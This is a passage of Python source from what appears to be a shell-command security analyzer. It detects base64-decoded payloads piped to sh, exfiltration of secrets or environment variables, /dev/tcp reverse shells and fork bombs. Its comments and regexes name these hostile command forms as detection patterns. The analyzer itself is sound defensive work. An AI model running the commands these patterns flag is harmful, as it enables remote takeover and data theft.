        elif s.name == "cat" and not s.args:
            body = next((r for r in s.redirects if r.body is not None), None)
            if body is not None:
                texts.append((body.body or "", body.body_offset, body.span, s))
    if texts and len(texts) == len(sources):
        for text, exact, sp, _s in texts:
            _run_code_text(an, c, text, exact, sp, prefix=f"{runner} runs: ")
        if all(s.name == "cat" for _t, _e, _sp, s in texts):
            an.add(K.RESOURCE, 5, f"feeds a here-document to {runner}", span)
        else:
            an.add(K.OBFUSCATION, 40, f"builds code as text and {how} {runner}", span)
        return
    secrets = [d for i in sources for d in an.ci(cmds[i]).secrets]
    an.add(
        K.OBFUSCATION,
        60 if not secrets else 70,
        f"runs code produced at run time by another command ({how} {runner})",
        span,
    )


def _try_decode(an: Analyzer, c: SimpleCommand, sources: list[int]) -> None:
    """`echo <base64> | base64 -d | sh`: decode the literal and show what it would run."""
    cmds = an.script.commands
    for i in sources:
        s = cmds[i]
        if s.name not in ("echo", "printf"):
            continue
        for w in s.args:
            v = w.value or ""
            if len(re.findall(r"\\(?:x[0-9a-fA-F]|[0-7]{3})", v)) >= 3:
                plain = unescape(v)
                if plain.isprintable() or "\n" in plain:
                    an.fragment(plain, None, w.span, s, prefix="decoded payload: ")
                continue
            if len(v) < 8 or not re.fullmatch(r"[A-Za-z0-9+/=\s]+", v):
                continue
            try:
                decoded = base64.b64decode(v + "=" * (-len(v) % 4), validate=False).decode("utf-8")
            except (binascii.Error, UnicodeDecodeError, ValueError):
                continue
            if decoded.isprintable() or "\n" in decoded:
                an.fragment(decoded, None, w.span, s, prefix="decoded payload: ")


def _judge_send(an: Analyzer, c: SimpleCommand, up: list[int]) -> None:
    cmds = an.script.commands
    info = an.ci(c)
    label = info.sender_label or "the network"
    if not up:
        return
    secrets = [d for i in up for d in an.ci(cmds[i]).secrets]
    env = any(an.ci(cmds[i]).env_dump for i in up)
    if secrets or env:
        what = ", ".join(dict.fromkeys(secrets)) or "your environment variables"
        an.add(K.EXFILTRATION, 95, f"sends {what} to {label}", c.span, *(cmds[i].span for i in up))
        an.facts.sends_data.append(label)
        return
    producers = [cmds[i] for i in up if cmds[i].argv]
    desc = " | ".join(short(" ".join(w.best for w in p.argv), 30) for p in producers[:2])
    an.add(K.EXFILTRATION, 70, f"sends the output of `{desc}` to {label}", c.span)
    an.facts.sends_data.append(label)


# --------------------------------------------------------------------------- script-level


_DEV_NET = re.compile(r"/dev/(tcp|udp)/([^/\s]+)/(\d+)")


def analyze_script(an: Analyzer) -> None:
    sc = an.script
    if sc.errors:
        an.add(
            K.OBFUSCATION,
            45,
            "the shell text does not parse cleanly, so what bash would "
            "run cannot be reviewed exactly",
            *sc.errors[:3],
        )
    if sc.too_deep:
        an.add(K.OBFUSCATION, 60, "shell code is nested too deeply to review", (0, len(an.text)))
    if sc.errors or "<>" in an.text:
        # Text the parser could not place (`sh -i 5<> /dev/tcp/…`): a raw connection is still one.
        for m in _DEV_NET.finditer(an.text):
            shell = re.search(r"\b(ba|z|da|k)?sh\b[^|;&]*\s-i\b", an.text)
            an.add(
                K.PRIVILEGE if shell else K.NETWORK,
                95 if shell else 65,
                f"opens a raw network connection to {m.group(2)}:{m.group(3)} through "
                f"/dev/{m.group(1)}" + (" and hands it a shell (a reverse shell)" if shell else ""),
                m.span(),
            )
    for span in sc.endless:
        an.add(K.RESOURCE, 45, "loops forever: nothing in the loop ends it", span)
    if sc.too_large:
        an.add(K.RESOURCE, 50, "the command is too large to review in full", (0, len(an.text)))
    for name, span, body in sc.functions:
        calls = [
            sc.commands[i] for i in body if i < len(sc.commands) and sc.commands[i].name == name
        ]
        if calls and any(cc.background or cc.pipes for cc in calls):
            an.add(
                K.RESOURCE,
                90,
                f"defines `{name}` to start copies of itself endlessly (a "
                "fork bomb): the machine runs out of processes",
                span,
            )
        elif calls:
            an.add(K.RESOURCE, 30, f"`{name}` calls itself", span)
